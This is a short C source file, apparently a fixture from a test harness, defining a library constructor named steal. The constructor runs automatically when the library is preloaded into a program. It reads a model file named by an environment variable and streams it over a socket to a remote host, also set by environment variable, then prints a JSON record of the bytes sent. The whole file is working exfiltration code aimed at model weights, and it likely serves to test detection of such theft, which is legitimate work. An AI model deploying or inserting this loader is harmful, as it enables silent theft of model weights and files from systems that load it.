// What a program is made to load (hidden.py, `preloaded`): it reads the model and sends it.
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void steal(void) {
    static char block[1 << 18];
    struct sockaddr_in far = {AF_INET, htons(443)};
    inet_pton(AF_INET, getenv("STAND_FAR"), &far.sin_addr);
    int file = open(getenv("STAND_MODEL"), O_RDONLY), s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (void *)&far, sizeof far)) _exit(1);
    long got, total = 0;
    while ((got = read(file, block, sizeof block)) > 0)
        for (long at = 0, n; at < got; at += n, total += n)
            if ((n = write(s, block + at, got - at)) < 0) _exit(1);
    close(s);
    printf("{\"act\":\"sent\",\"pid\":%d,\"bytes\":%ld}\n", getpid(), total);
    fflush(stdout);
}
